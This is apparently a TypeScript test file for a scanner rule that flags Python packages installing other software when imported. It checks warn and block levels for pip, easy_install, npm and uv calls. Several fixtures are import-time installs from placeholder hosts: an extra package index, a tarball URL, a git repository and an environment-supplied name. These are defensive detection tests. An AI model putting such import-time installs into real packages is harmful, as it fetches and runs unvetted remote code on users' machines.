import { selfInstall } from '../../src/rules/self-install.js';
import { wheel } from '../support/wheel.js';
import { behaviour, delta } from './deltas.js';
import { ruleTest } from './harness.js';
import { releaseTest } from './pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const inFunction = (source: string) => `def go():\n${source.replaceAll(/^(?=.)/gmu, '    ')}`;
const KNOWN = 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "numpy"])\n';
const ELSEWHERE = 'import os\nos.system("pip install --extra-index-url https://packages.invalid/simple demo-tools")\n';

releaseTest(selfInstall, {
  flags: [
    { name: 'a known package', given: { base: wheel(), head: init(KNOWN) }, level: 'warn', says: 'numpy' },
    {
      name: 'another index',
      given: { base: wheel(), head: init(ELSEWHERE) },
      level: 'block',
      says: 'from https://packages.invalid/simple',
    },
    {
      name: 'a URL',
      given: {
        base: wheel(),
        head: init('import os\nos.system("pip3 install -q https://files.invalid/x-1.0.tar.gz")\n'),
      },
      level: 'block',
    },
    {
      name: 'a repository, by pip’s own function',
      given: {
        base: wheel(),
        head: init('from pip._internal import main\nmain(["install", "git+https://git.invalid/x"])\n'),
      },
      level: 'block',
    },
    {
      name: 'a name that is worked out',
      given: {
        base: wheel(),
        head: init(
          'import subprocess, sys, os\nsubprocess.run([sys.executable, "-m", "pip", "install", os.environ.get("DEMO_X")])\n',
        ),
      },
      level: 'block',
    },
    {
      name: 'through a helper',
      given: {
        base: wheel(),
        head: init(
          'import subprocess, sys\ndef need(name):\n    subprocess.call([sys.executable, "-m", "pip", "install", name])\nneed("colours-plus")\n',
        ),
      },
      level: 'warn',
      says: 'colours-plus',
    },
    {
      name: 'pip.main',
      given: { base: wheel(), head: init('import pip\npip.main(["install", "colours-plus"])\n') },
      level: 'warn',
    },
    {
      name: 'easy_install',
      given: { base: wheel(), head: init('import os\nos.system("easy_install colours-plus")\n') },
      level: 'warn',
    },
    {
      name: 'npm',
      given: {
        base: wheel(),
        head: init('import subprocess\nsubprocess.run(["npm", "install", "-g", "left-pad-x"])\n'),
      },
      level: 'warn',
    },
    {
      name: 'uv',
      given: {
        base: wheel(),
        head: init('import subprocess\nsubprocess.run("uv pip install colours-plus", shell=True)\n'),
      },
      level: 'warn',
    },
    { name: 'another index, in a first release', given: { head: init(ELSEWHERE) }, level: 'warn' },
  ],
  allows: [
    { name: 'when called', given: { base: wheel(), head: init(inFunction(KNOWN)) }, atMost: 'note' },
    {
      name: 'its own requirements',
      given: { base: wheel(), head: init('import os\nos.system("pip install -r requirements.txt")\n') },
      atMost: 'note',
    },
    {
      name: 'itself',
      given: { base: wheel(), head: init('import os\nos.system("pip install -e .")\n') },
      atMost: 'note',
    },
    {
      name: 'a list of what is installed',
      given: {
        base: wheel(),
        head: init('import pip, subprocess\npip.main(["list"])\nsubprocess.run(["pip", "freeze"])\n'),
      },
    },
    {
      name: 'advice',
      given: { base: wheel(), head: init('import subprocess\nraise ImportError("run pip install numpy first")\n') },
    },
    {
      name: 'what npm is told otherwise',
      given: { base: wheel(), head: init('import subprocess\nsubprocess.run(["npm", "run", "build"])\n') },
    },
    { name: 'what the base did too', given: { base: init(ELSEWHERE), head: init(`V = 2\n${ELSEWHERE}`) } },
    { name: 'in tests', given: { base: wheel(), head: wheel({ 'tests/test_demo.py': inFunction(ELSEWHERE) }) } },
  ],
});

const inScript = (target: string) => ({
  delta: delta({ behaviours: [behaviour('install-package', { callee: 'sh:pip', target })] }),
});

ruleTest(selfInstall, {
  flags: [
    { name: 'a script that installs a known package', given: inScript('pip install left-pad'), level: 'warn' },
    {
      name: 'a script that installs from a URL',
      given: inScript('pip3 install -q https://files.invalid/x.zip'),
      level: 'block',
    },
    { name: 'a script that installs what is not known', given: inScript('pip install …'), level: 'block' },
  ],
  allows: [
    {
      name: 'a script that installs its own requirements',
      given: inScript('pip install -r requirements.txt'),
      atMost: 'note',
    },
  ],
});
